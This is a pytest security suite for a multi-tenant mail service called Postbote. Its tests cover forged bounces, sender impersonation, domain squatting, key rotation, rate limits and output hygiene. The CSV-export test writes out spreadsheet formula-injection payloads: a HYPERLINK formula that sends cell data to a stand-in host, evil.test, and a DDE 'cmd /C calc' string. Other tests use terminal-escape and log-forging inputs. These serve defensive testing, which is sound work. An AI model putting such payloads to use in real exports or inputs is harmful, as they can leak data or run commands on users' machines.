"""Security guarantees (the attack on a running Postbote): each test names the hole it closes and
fails when the fix is taken out. Through the API, the CLI's services and real receivers on
loopback, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import email
import io
import json
import logging
import os
import signal
import smtplib
import stat
import subprocess
import sys
import time
from email import policy

import pytest
from fastapi.testclient import TestClient

from postbote.api import create_api
from postbote.db import open_engine
from postbote.domains.returnpath import return_path
from postbote.inbound.apply import refused_reports
from postbote.recipients.suppression import find
from postbote.queue import message_status
from postbote.tenants import add_tenant, create_key, list_keys
from postbote.testing import Receiver
from tests.conftest import MX1, MX3, free_port, run_worker
from tests.support.reports import arf, dsn


@pytest.fixture
def two_tenants(make_app, zone):
    for domain in ("kunde.test", "acme.test", "globex.test", "xn--bcher-kva.test"):
        zone.mail_domain(domain, (10, f"mx.{domain}", MX1))
    app = make_app()
    acme, globex = add_tenant(app.engine, "acme", "ACME GmbH"), add_tenant(app.engine, "globex", "Globex AG")
    client = TestClient(create_api(app))
    client.headers_of = {t.name: {"Authorization": f"Bearer {create_key(app.engine, t)}"} for t in (acme, globex)}
    client.app_ref = app
    return app, acme, globex, client


def _message(to: str, sender: str = "hr@acme.test") -> dict:
    return {"from": sender, "to": [to], "subject": "Einladung", "text": "Hallo"}


# Item 5: impersonation through the default sender.

@pytest.mark.parametrize("asked", ['"ACME GmbH via Postbote" <notification@platform.test>',
                                   "Sparkasse Sicherheit <notification@platform.test>"])
def test_the_default_senders_display_name_is_the_tenants_registered_name(two_tenants, smtp_port, asked):
    app, _, globex, client = two_tenants
    sent = client.post("/v1/messages", headers=client.headers_of["globex"], json=_message("anna@kunde.test", asked))
    assert sent.status_code == 202
    assert sent.json()["sender"]["used"] == "Globex AG via Postbote <notification@platform.test>"
    assert "registered name" in sent.json()["sender"]["note"]
    with Receiver(MX1, smtp_port) as mx:
        run_worker(app)
    mail = email.message_from_bytes(mx.messages[0].data, policy=policy.default)
    assert [a.display_name for a in mail["From"].addresses] == ["Globex AG via Postbote"]


# Item 7: suppression entries that do not suppress.

@pytest.mark.parametrize("stored, sent", [
    ("Lea <Lea@Kunde.test>", "lea@kunde.test"),
    ("  lea@kunde.test  ", "Lea Berg <LEA@kunde.test>"),
    ("jörg@bücher.test".replace("jörg", "joerg"), "joerg@xn--bcher-kva.test"),
    ("joerg@xn--bcher-kva.test", "Jörg <JOERG@BÜCHER.test>"),
])
def test_suppression_entries_are_normalised_like_sending(two_tenants, stored, sent):
    app, _, _, client = two_tenants
    a = client.headers_of["acme"]
    added = client.post("/v1/suppressions", headers=a, json={"address": stored, "reason": "manual"})
    assert added.status_code == 201
    refused = client.post("/v1/messages", headers=a, json=_message(sent))
    assert refused.status_code == 422 and refused.json()["error"]["details"][0]["reason"] == "suppressed"
    [entry] = client.get("/v1/suppressions", headers=a).json()["suppressions"]
    assert entry["address"] == entry["address"].strip().lower() and "<" not in entry["address"]


@pytest.mark.parametrize("junk", ["not an address", "x" * 2_000_000 + "@kunde.test", "lea@", "Lea <lea@kunde.test> <b@c.test>x"])
def test_what_is_not_an_address_is_refused_from_the_list(two_tenants, junk):
    app, _, _, client = two_tenants
    answer = client.post("/v1/suppressions", headers=client.headers_of["acme"], json={"address": junk, "reason": "manual"})
    assert answer.status_code == 422
    assert answer.json()["error"]["code"] in ("address_invalid", "request_invalid") and answer.json()["error"]["hint"]
    assert client.get("/v1/suppressions", headers=client.headers_of["acme"]).json()["suppressions"] == []


def test_an_entry_with_a_slash_can_be_removed_through_the_api(two_tenants):
    app, _, _, client = two_tenants
    a = client.headers_of["acme"]
    assert client.post("/v1/suppressions", headers=a, json={"address": "a/b@kunde.test", "reason": "manual"}).status_code == 201
    removed = client.delete("/v1/suppressions/a%2Fb@kunde.test", params={"reason": "confirmed"}, headers=a)
    assert removed.status_code == 200 and removed.json() == {"address": "a/b@kunde.test", "removed": True}
    assert client.get("/v1/suppressions", headers=a).json()["suppressions"] == []
    assert client.post("/v1/messages", headers=a, json=_message("a/b@kunde.test")).status_code == 202


# Item 2: forged bounces and complaints.

@pytest.fixture
def delivered(make_app, zone, smtp_port):
    """A message delivered to anna and lea, and the bounce receiver on MX3."""
    from postbote.compose import Draft
    from postbote.inbound import start_inbound
    from postbote.sending import send

    zone.mail_domain("kunde.test", (10, "mx.kunde.test", MX1))
    app = make_app()
    tenant = add_tenant(app.engine, "acme", "ACME GmbH")
    accepted = send(app.engine, app.settings, tenant, Draft("hr@acme.test", ["anna@kunde.test", "lea@kunde.test"], "Hallo", "x"))
    with Receiver(MX1, smtp_port) as mx:
        run_worker(app)
    controller = start_inbound(app.settings, app.engine, f"{MX3}:{smtp_port}")
    yield app, tenant, accepted, mx.messages[0].mail_from, (MX3, smtp_port)
    controller.stop()


def _rcpt_reply(where, rcpt: str) -> tuple[int, bytes]:
    with smtplib.SMTP(*where, timeout=10) as client:
        client.ehlo("mx.kunde.test")
        client.mail("")
        return client.rcpt(rcpt)


def _send_report(where, rcpt: str, raw: bytes) -> None:
    with smtplib.SMTP(*where, timeout=10) as client:
        client.ehlo("mx.kunde.test")
        client.sendmail("", [rcpt], raw)


def test_the_return_path_carries_a_mac_and_forged_ones_all_get_the_same_answer(delivered):
    app, _, accepted, real, where = delivered
    local, _, host = real.partition("@")
    assert local.startswith(f"bounces+{accepted.id}.") and len(local) <= 64  # RFC 5321 §4.5.3.1.1
    assert _rcpt_reply(where, real)[0] == 250
    expired = return_path(app.settings.SECRET_KEY, accepted.id, host, valid_days=30, now=time.time() - 31 * 86400)
    other_key = return_path("another-secret-key-of-someone-else", accepted.id, host, valid_days=30)
    day = local.split(".")[1]
    forged = [
        f"bounces+{accepted.id}@{host}",  # the bare id every recipient sees
        f"bounces+{accepted.id}.{day}.{'0' * 20}@{host}",
        f"bounces+{accepted.id}.{int(day) + 400}.{local.split('.')[2]}@{host}",  # the day moved, the MAC kept
        f"bounces+{'0' * 12}{'ab' * 8}.{day}.{local.split('.')[2]}@{host}",  # an unknown id
        expired, other_key,
    ]
    answers = {_rcpt_reply(where, address) for address in forged}
    assert len(answers) == 1 and next(iter(answers))[0] == 550
    assert accepted.id.encode() not in next(iter(answers))[1]
    # Nothing a forged report says reaches the message.
    with pytest.raises(smtplib.SMTPRecipientsRefused):
        _send_report(where, forged[0], arf("anna@kunde.test"))
    assert find(app.engine, 1, "anna@kunde.test") is None


def test_a_report_changes_only_recipients_of_its_message_and_refusals_stay_visible(delivered):
    app, tenant, accepted, real, where = delivered
    _send_report(where, real, arf("ceo@kunde.test"))  # a complaint naming someone the message never went to
    _send_report(where, real, dsn("bob@kunde.test"))
    assert find(app.engine, tenant.id, "ceo@kunde.test") is None and find(app.engine, tenant.id, "bob@kunde.test") is None
    assert {r.state for r in message_status(app.engine, accepted.id).recipients} == {"delivered"}
    refused = refused_reports(app.engine, since_seconds=3600)
    assert {(r["recipient"], r["kind"], r["tenant"], r["message_id"]) for r in refused} == {
        ("ceo@kunde.test", "complaint", "acme", accepted.id), ("bob@kunde.test", "dsn", "acme", accepted.id)}
    # A real report about a real recipient still works.
    _send_report(where, real, dsn("lea@kunde.test"))
    assert {r.address: r.state for r in message_status(app.engine, accepted.id).recipients}["lea@kunde.test"] == "bounced"


# Item 9: every failure is the error object, with a request id.

def test_unhandled_errors_and_the_frameworks_own_answers_are_the_error_object(two_tenants):
    app, _, _, client = two_tenants
    api = create_api(app)

    @api.get("/v1/broken")
    def broken() -> dict:
        raise RuntimeError("secret internals: /srv/postbote/db password=hunter2")

    raw = TestClient(api, raise_server_exceptions=False)
    a = client.headers_of["acme"]
    answers = {
        "since": (raw.get("/v1/report", params={"since": "99999999999999999999d"}, headers=a), 422, "duration_invalid"),
        "body": (raw.post("/v1/messages", headers={**a, "Content-Type": "application/json"},
                          content='{"from": "\xe4"}'.encode("latin-1")), 400, "request_unreadable"),
        "path": (raw.get("/v1/nothing-here", headers=a), 404, "path_not_found"),
        "method": (raw.put("/v1/messages", headers=a), 405, "method_not_allowed"),
        "crash": (raw.get("/v1/broken", headers=a), 500, "internal_error"),
    }
    for name, (response, status, code) in answers.items():
        assert response.status_code == status, name
        error = response.json()["error"]
        assert error["code"] == code and error["message"] and error["hint"], name
        assert len(error["request_id"]) == 16 and response.headers["x-request-id"] == error["request_id"], name
    assert "hunter2" not in answers["crash"][0].text and "RuntimeError" not in answers["crash"][0].text


# Item 10: private files, and no start without a real master key.

def _cli(env, cwd, *args):
    # umask 022, as on most systems: the files must be private anyway.
    return subprocess.run([sys.executable, "-m", "postbote", *args], env=env, cwd=cwd, capture_output=True, text=True,
                          timeout=60, preexec_fn=lambda: os.umask(0o022))


def test_the_database_its_wal_and_shm_and_the_config_file_are_private(tmp_path):
    env = {k: v for k, v in os.environ.items() if not k.startswith("POSTBOTE_")}
    env.update(POSTBOTE_CONFIG="postbote.toml", POSTBOTE_DATABASE_URL=f"sqlite:///{tmp_path}/var/postbote.db")
    result = _cli(env, tmp_path, "init")
    assert result.returncode == 0, result.stderr
    assert _cli(env, tmp_path, "tenant", "add", "acme").returncode == 0
    files = [tmp_path / "postbote.toml", tmp_path / "var/postbote.db", tmp_path / "var/postbote.db-wal",
             tmp_path / "var/postbote.db-shm"]
    engine = open_engine(f"sqlite:///{tmp_path}/var/postbote.db")  # keeps -wal and -shm open while looked at
    with engine.connect() as conn:
        conn.exec_driver_sql("SELECT 1")
        for path in files:
            assert path.exists(), path
            assert stat.S_IMODE(path.stat().st_mode) == 0o600, (path, oct(path.stat().st_mode))
    engine.dispose()


@pytest.mark.parametrize("secret, code, command", [
    ("", "secret_key_missing", ["serve"]), ("short", "secret_key_weak", ["serve"]),
    ("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "secret_key_weak", ["serve"]), ("changeme", "secret_key_weak", ["serve"]),
    ("short", "secret_key_weak", ["worker", "--until-done", "--timeout", "1"]),  # a worker signs nothing: only a given key
])
def test_a_missing_or_weak_secret_key_is_refused_at_start_with_the_command_that_makes_one(tmp_path, secret, code,
                                                                                          command):
    env = {k: v for k, v in os.environ.items() if not k.startswith("POSTBOTE_")}
    env.update(POSTBOTE_DATABASE_URL=f"sqlite:///{tmp_path}/p.db",
               POSTBOTE_SECRET_KEY=secret, POSTBOTE_API_LISTEN=f"127.0.0.1:{free_port('127.0.0.1')}")
    result = _cli(env, tmp_path, *command)
    assert result.returncode == 1
    assert f"error[{code}]" in result.stderr and "secrets.token_urlsafe(32)" in result.stderr


# Item 13: output hygiene.

def test_the_csv_export_neutralises_spreadsheet_formulas(two_tenants):
    app, _, _, client = two_tenants
    a = client.headers_of["acme"]
    for address, detail in [("+lea@kunde.test", '=HYPERLINK("http://evil.test/?"&A1,"click")'),
                            ("-tom@kunde.test", "@SUM(1+1)*cmd|' /C calc'!A0"), ("anna@kunde.test", "plain")]:
        assert client.post("/v1/suppressions", headers=a, json={"address": address, "reason": "manual",
                                                                  "detail": detail}).status_code == 201
    rows = list(csv.reader(io.StringIO(client.get("/v1/suppressions/export", headers=a).text)))[1:]
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    assert {r[0] for r in rows} == {"'+lea@kunde.test", "'-tom@kunde.test", "anna@kunde.test"}
    assert "'=HYPERLINK(" in {r[5][:12] for r in rows}


def test_cli_output_escapes_markup_and_control_characters_from_stored_data(two_tenants, tmp_path):
    from tests.integration.test_cli import cli_env, postbote

    app, _, _, client = two_tenants
    hostile = "\x1b[2J\x1b]0;owned\x07[red]RED[/red]\r\u202e"
    assert client.post("/v1/suppressions", headers=client.headers_of["acme"],
                       json={"address": "lea@kunde.test", "reason": "manual", "detail": hostile}).status_code == 201
    env = {**cli_env(app), "COLUMNS": "250"}
    shown = postbote(env, tmp_path, "suppression", "list", "--tenant", "acme").stdout
    assert "\x1b" not in shown and "\r" not in shown and "\x07" not in shown and "\u202e" not in shown
    assert "[red]RED[/red]" in shown and "\\x1b[2J" in shown and "\\u202e" in shown
    as_json = json.loads(postbote(env, tmp_path, "suppression", "list", "--tenant", "acme", "--json").stdout)
    assert as_json[0]["detail"] == hostile  # the data itself is kept as it came


def test_log_lines_cannot_be_forged_through_input():
    from postbote.logs import configure

    stream = io.StringIO()
    configure("INFO", stream)
    try:
        log = logging.getLogger("postbote.inbound")
        log.warning("inbound %s: %s", "abc", "x\r\n2026-01-01 00:00:00,000 INFO postbote.domains: acme.test verified\x1b[2J")
        try:
            raise ValueError("boom\n2026-01-01 00:00:00,000 INFO forged")
        except ValueError:
            log.exception("failed on %s", "y\u2028z")
    finally:
        logging.getLogger().handlers.clear()
    lines = stream.getvalue().splitlines()
    assert len([line for line in lines if not line.startswith("    | ")]) == 2
    assert all(line.startswith("    | ") or line[:4].isdigit() for line in lines)
    assert "\\r\\n2026-01-01" in lines[0] and "\x1b" not in stream.getvalue() and "\u2028" not in stream.getvalue()


# Item 8: API keys can be listed, revoked and rotated; a key is never shown again.

def test_api_keys_are_listed_revoked_and_rotated_and_never_shown_again(two_tenants):
    app, acme, _, client = two_tenants
    first = client.headers_of["acme"]
    first_key = first["Authorization"].split()[1]
    assert client.get("/v1/report", headers=first).status_code == 200  # a use, recorded
    made = client.post("/v1/keys", headers=first)
    assert made.status_code == 201
    second_key = made.json()["api_key"]
    second = {"Authorization": f"Bearer {second_key}"}
    listed = client.get("/v1/keys", headers=second).json()["keys"]
    assert [k["prefix"] for k in listed] == [second_key[:10], first_key[:10]]
    assert listed[1]["last_used_at"] and listed[1]["created_at"] and listed[1]["active"]
    text = str(listed) + str(list_keys(app.engine, acme))
    assert first_key not in text and second_key not in text and first_key[10:20] not in text
    # Another tenant can neither see nor revoke acme's keys.
    assert client.delete(f"/v1/keys/{first_key[:10]}", headers=client.headers_of["globex"]).status_code == 404
    assert client.get("/v1/report", headers=first).status_code == 200
    # Revoked: refused at once, still listed.
    revoked = client.delete(f"/v1/keys/{first_key[:10]}", headers=second)
    assert revoked.status_code == 200 and revoked.json()["revoked_at"] and not revoked.json()["active"]
    assert client.get("/v1/report", headers=first).status_code == 401
    # Rotated: the new key works, the old one does not.
    rotated = client.post(f"/v1/keys/{second_key[:10]}/rotate", headers=second).json()
    assert client.get("/v1/report", headers=second).status_code == 401
    assert client.get("/v1/report", headers={"Authorization": f"Bearer {rotated['api_key']}"}).status_code == 200
    newest = client.get("/v1/keys", headers={"Authorization": f"Bearer {rotated['api_key']}"}).json()["keys"]
    assert [(k["prefix"], k["active"]) for k in newest] == [
        (rotated["api_key"][:10], True), (second_key[:10], False), (first_key[:10], False)]


def test_tenant_key_list_revoke_rotate_on_the_cli(make_app, tmp_path):
    from tests.integration.test_cli import cli_env, postbote

    env = cli_env(make_app())
    postbote(env, tmp_path, "tenant", "add", "acme")
    key = json.loads(postbote(env, tmp_path, "tenant", "key", "acme", "--json").stdout)["api_key"]
    listed = json.loads(postbote(env, tmp_path, "tenant", "key", "list", "acme", "--json").stdout)
    assert [(k["prefix"], k["active"]) for k in listed] == [(key[:10], True)]
    table = postbote(env, tmp_path, "tenant", "key", "list", "acme").stdout
    assert key[:10] in table and key not in table
    new = json.loads(postbote(env, tmp_path, "tenant", "key", "rotate", "acme", key[:10], "--json").stdout)["api_key"]
    assert new != key
    postbote(env, tmp_path, "tenant", "key", "revoke", "acme", new[:10])
    listed = json.loads(postbote(env, tmp_path, "tenant", "key", "list", "acme", "--json").stdout)
    assert [k["active"] for k in listed] == [False, False]
    again = postbote(env, tmp_path, "tenant", "key", "revoke", "acme", new[:10], check=False)
    assert again.returncode == 2 and "error[key_not_found]" in again.stderr


# Item 6: limits, enforced before the work is done.

def test_a_huge_request_is_refused_before_it_is_read(two_tenants):
    app, _, _, client = two_tenants
    a = client.headers_of["acme"]
    huge = b'{"from": "hr@acme.test", "to": ["anna@kunde.test"], "subject": "x", "text": "' + b"y" * 50_000_000 + b'"}'
    declared = client.post("/v1/messages", headers={**a, "Content-Type": "application/json"}, content=huge)
    assert declared.status_code == 413 and declared.json()["error"]["code"] == "request_too_large"

    def chunks():  # no Content-Length: counted as it arrives
        yield huge[:1_000_000]
        for start in range(1_000_000, len(huge), 1_000_000):
            yield huge[start:start + 1_000_000]

    streamed = client.post("/v1/messages", headers={**a, "Content-Type": "application/json"}, content=chunks())
    assert streamed.status_code == 413 and streamed.json()["error"]["code"] == "request_too_large"
    assert client.get("/v1/report", headers=a).json()["outcomes"] == []


def test_message_size_and_recipient_count_are_limited_before_any_lookup(make_app, zone, dns_server):
    zone.mail_domain("kunde.test", (10, "mx.kunde.test", MX1))
    app = make_app(MAX_MESSAGE_BYTES=20_000, MAX_RECIPIENTS=5)
    client = TestClient(create_api(app))
    a = {"Authorization": f"Bearer {create_key(app.engine, add_tenant(app.engine, 'acme'))}"}
    big = client.post("/v1/messages", headers=a, json={**_message("anna@kunde.test"), "html": "ü" * 10_001})
    assert big.status_code == 413 and big.json()["error"]["code"] == "message_too_large" and big.json()["error"]["hint"]
    many = client.post("/v1/messages", headers=a, json={**_message("anna@kunde.test"),
                                                        "to": [f"p{i}@nowhere{i}.test" for i in range(6)]})
    assert many.status_code == 422 and many.json()["error"]["code"] == "too_many_recipients"
    checks = client.post("/v1/addresses/check", headers=a, json={"addresses": [f"p{i}@kunde.test" for i in range(6)]})
    assert checks.status_code == 422 and checks.json()["error"]["code"] == "too_many_recipients"
    assert client.post("/v1/messages", headers=a, json={**_message("anna@kunde.test"),
                                                        "to": [f"p{i}@kunde.test" for i in range(5)]}).status_code == 202


def test_each_tenant_is_rate_limited_with_retry_after(make_app, zone):
    app = make_app(API_RATE_LIMIT=2)  # bursts of 4
    client = TestClient(create_api(app))
    acme, globex = ({"Authorization": f"Bearer {create_key(app.engine, add_tenant(app.engine, n))}"} for n in ("acme", "globex"))
    answers = [client.get("/v1/report", headers=acme) for _ in range(8)]
    limited = [r for r in answers if r.status_code == 429]
    assert limited and answers[0].status_code == 200
    assert limited[0].json()["error"]["code"] == "rate_limited" and int(limited[0].headers["retry-after"]) >= 1
    assert client.get("/v1/report", headers=globex).status_code == 200  # the other tenant's share is its own
    time.sleep(1.1)
    assert client.get("/v1/report", headers=acme).status_code == 200


def test_dns_queries_in_flight_are_bounded_process_wide(make_app, zone):
    for i in range(300):
        zone.mail_domain(f"d{i}.test", (10, f"mx.d{i}.test", MX1))
    app = make_app(DNS_MAX_CONCURRENCY=7, MAX_RECIPIENTS=10_000)
    client = TestClient(create_api(app))
    a = {"Authorization": f"Bearer {create_key(app.engine, add_tenant(app.engine, 'acme'))}"}
    checked = client.post("/v1/addresses/check", headers=a, json={"addresses": [f"x@d{i}.test" for i in range(300)]})
    assert checked.status_code == 200 and all(r["ok"] for r in checked.json())
    assert 1 < app.resolver.in_flight.peak <= 7 and app.resolver.in_flight.held == 0


def _serve(make_app, tmp_path, **settings):
    from tests.integration.test_cli import cli_env

    import httpx

    env = cli_env(make_app())
    api_port, inbound_port = free_port("127.0.0.1"), free_port("127.0.0.1")
    env.update(POSTBOTE_API_LISTEN=f"127.0.0.1:{api_port}", POSTBOTE_INBOUND_LISTEN=f"127.0.0.1:{inbound_port}",
               **{f"POSTBOTE_{k}": str(v) for k, v in settings.items()})

    def low_descriptor_limit():  # the usual default for a service: 1,024 open files
        import resource

        resource.setrlimit(resource.RLIMIT_NOFILE, (1024, 1024))

    server = subprocess.Popen([sys.executable, "-m", "postbote", "serve"], env=env, cwd=tmp_path, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True, preexec_fn=low_descriptor_limit)
    http = httpx.Client(base_url=f"http://127.0.0.1:{api_port}", timeout=5)
    for _ in range(200):
        try:
            if http.get("/v1/health").status_code == 200:
                break
        except httpx.TransportError:
            time.sleep(0.1)
    return server, http, inbound_port


def test_1100_idle_connections_to_the_bounce_receiver_do_not_take_the_api_down(make_app, tmp_path):
    import socket

    server, http, inbound_port = _serve(make_app, tmp_path, INBOUND_MAX_CONNECTIONS=200)
    idle: list[socket.socket] = []
    try:
        for _ in range(1100):
            idle.append(socket.create_connection(("127.0.0.1", inbound_port), timeout=30))
        time.sleep(1)
        assert http.get("/v1/health").status_code == 200
        banners = []
        for s in idle[-50:]:
            s.settimeout(20)
            banners.append(s.recv(200))
        assert all(b.startswith(b"421") for b in banners), banners[:3]
        for s in idle:
            s.close()
        idle.clear()
        time.sleep(0.5)
        with smtplib.SMTP("127.0.0.1", inbound_port, timeout=10) as smtp:
            assert smtp.ehlo("mx.kunde.test")[0] == 250  # serving again once they are gone
        assert http.get("/v1/health").status_code == 200
    finally:
        for s in idle:
            s.close()
        http.close()
        server.send_signal(signal.SIGTERM)
        try:
            server.wait(timeout=30)
        except subprocess.TimeoutExpired:
            server.kill()
            raise


def test_the_bounce_receiver_limits_rcpts_and_closes_idle_connections(delivered):
    app, _, accepted, real, where = delivered
    with smtplib.SMTP(*where, timeout=10) as client:
        client.ehlo("mx.kunde.test")
        client.mail("")
        codes = [client.rcpt(real)[0] for _ in range(app.settings.INBOUND_MAX_RECIPIENTS + 3)]
    assert codes[:app.settings.INBOUND_MAX_RECIPIENTS] == [250] * app.settings.INBOUND_MAX_RECIPIENTS
    assert codes[app.settings.INBOUND_MAX_RECIPIENTS:] == [452] * 3


def test_an_idle_bounce_receiver_connection_is_closed(make_app, smtp_port):
    import socket

    from postbote.inbound import start_inbound

    app = make_app(INBOUND_IDLE_TIMEOUT=1)
    controller = start_inbound(app.settings, app.engine, f"{MX3}:{smtp_port}")
    try:
        with socket.create_connection((MX3, smtp_port), timeout=10) as s:
            assert s.recv(200).startswith(b"220")
            started = time.monotonic()
            rest = b""
            while chunk := s.recv(200):  # the server closes: recv returns b""
                rest += chunk
            assert time.monotonic() - started < 5
    finally:
        controller.stop()


# Item 4: domain squatting and takeover.

@pytest.fixture
def claims(make_app, zone):
    zone.mail_domain("kunde.test", (10, "mx.kunde.test", MX1))
    app = make_app(MAX_DOMAINS_PER_TENANT=3)
    client = TestClient(create_api(app))
    headers = {n: {"Authorization": f"Bearer {create_key(app.engine, add_tenant(app.engine, n, n.upper()))}"}
               for n in ("acme", "globex", "initech")}
    return app, client, headers


def test_a_squatter_who_claims_first_does_not_verify_when_the_owner_publishes_its_records(claims, zone, smtp_port):
    from tests.support.mail import it_team_publishes, publish_to_zone

    app, client, h = claims
    squat = client.post("/v1/domains", headers=h["globex"], json={"domain": "acme.test"})  # first, from the README
    assert squat.status_code == 201
    owner = client.post("/v1/domains", headers=h["acme"], json={"domain": "acme.test"})  # a pending domain: claimable
    assert owner.status_code == 201
    targets = {name: {r["name"]: r["value"] for r in answer.json()["records"] if r["type"] == "CNAME"}
               for name, answer in (("globex", squat), ("acme", owner))}
    dkim = [n for n in targets["acme"] if "_domainkey" in n]
    assert all(targets["acme"][n] != targets["globex"][n] for n in dkim)  # each claim its own, unguessable targets
    assert all(targets["acme"][n] != f"{n.split('.')[0]}.acme-test.dkim.platform.test" for n in dkim)
    publish_to_zone(zone, app)
    it_team_publishes(zone, owner.json()["records"])  # the real owner's IT team publishes what acme was given
    assert client.post("/v1/domains/acme.test/verify", headers=h["globex"]).json()["state"] == "failed"
    assert client.post("/v1/domains/acme.test/verify", headers=h["acme"]).json()["state"] == "verified"
    # The squatter still cannot send as acme.test; the owner can.
    sent = client.post("/v1/messages", headers=h["globex"], json=_message("anna@kunde.test", "ceo@acme.test")).json()
    assert sent["sender"]["used"] == "GLOBEX via Postbote <notification@platform.test>"
    own = client.post("/v1/messages", headers=h["acme"], json=_message("anna@kunde.test", "ceo@acme.test")).json()
    assert own["sender"]["used"] == "ceo@acme.test" and own["sender"]["note"] is None
    with Receiver(MX1, smtp_port) as mx:
        run_worker(app)
    signed = {m.mail_from.rpartition("@")[2]: m.data for m in mx.messages}
    assert b"d=acme.test" in signed["pbmail.acme.test"] and b"d=acme.test" not in signed["rp.platform.test"]
    # Once verified, nobody else may claim it.
    third = client.post("/v1/domains", headers=h["initech"], json={"domain": "acme.test"})
    assert third.status_code == 409 and third.json()["error"]["code"] == "domain_taken"
    assert "acme" not in third.json()["error"]["message"].replace("acme.test", "")


@pytest.mark.parametrize("domain", ["gmail.com", "GoogleMail.com", "web.de", "t-online.de", "mail.gmx.net", "platform.test",
                                    "dkim.platform.test", "rp.platform.test"])
def test_public_mailbox_domains_and_the_platform_zone_cannot_be_claimed(claims, domain):
    app, client, h = claims
    refused = client.post("/v1/domains", headers=h["acme"], json={"domain": domain})
    assert refused.status_code == 422 and refused.json()["error"]["code"] == "domain_reserved"
    assert client.get("/v1/domains", headers=h["acme"]).json()["domains"] == []


def test_domains_are_listed_removed_with_their_records_and_capped(claims):
    from postbote.domain_service import zone

    app, client, h = claims
    for name in ("acme.test", "acme-hr.test", "acme-jobs.test"):
        assert client.post("/v1/domains", headers=h["acme"], json={"domain": name}).status_code == 201
    capped = client.post("/v1/domains", headers=h["acme"], json={"domain": "acme-four.test"})
    assert capped.status_code == 409 and capped.json()["error"]["code"] == "domain_limit"
    assert [d["domain"] for d in client.get("/v1/domains", headers=h["acme"]).json()["domains"]] == [
        "acme-hr.test", "acme-jobs.test", "acme.test"]
    targets = [r["value"] for r in client.get("/v1/domains/acme-hr.test", headers=h["acme"]).json()["records"]
               if "_domainkey" in r["name"]]
    assert all(t in zone(app) for t in targets)
    assert client.delete("/v1/domains/acme-hr.test", headers=h["globex"]).status_code == 404  # not globex's
    removed = client.delete("/v1/domains/acme-hr.test", headers=h["acme"])
    assert removed.status_code == 200 and sorted(removed.json()["withdrawn"]) == sorted(targets)
    assert client.get("/v1/domains/acme-hr.test", headers=h["acme"]).status_code == 404
    assert not any(t in zone(app) for t in targets)  # withdrawn from the platform zone
    assert client.post("/v1/domains", headers=h["acme"], json={"domain": "acme-four.test"}).status_code == 201


def test_domain_list_and_remove_on_the_cli(make_app, tmp_path):
    from tests.integration.test_cli import cli_env, postbote

    env = cli_env(make_app())
    postbote(env, tmp_path, "tenant", "add", "acme")
    postbote(env, tmp_path, "domain", "add", "acme.test", "--tenant", "acme")
    listed = json.loads(postbote(env, tmp_path, "domain", "list", "--json").stdout)
    assert [(d["domain"], d["tenant"], d["state"]) for d in listed] == [("acme.test", "acme", "pending")]
    assert "acme.test" in postbote(env, tmp_path, "domain", "list", "--tenant", "acme").stdout
    removed = json.loads(postbote(env, tmp_path, "domain", "remove", "acme.test", "--tenant", "acme", "--json").stdout)
    assert removed["removed"] and len(removed["withdrawn"]) == 2
    assert json.loads(postbote(env, tmp_path, "domain", "list", "--json").stdout) == []
    assert "acme-test.dkim" not in postbote(env, tmp_path, "platform", "zone").stdout
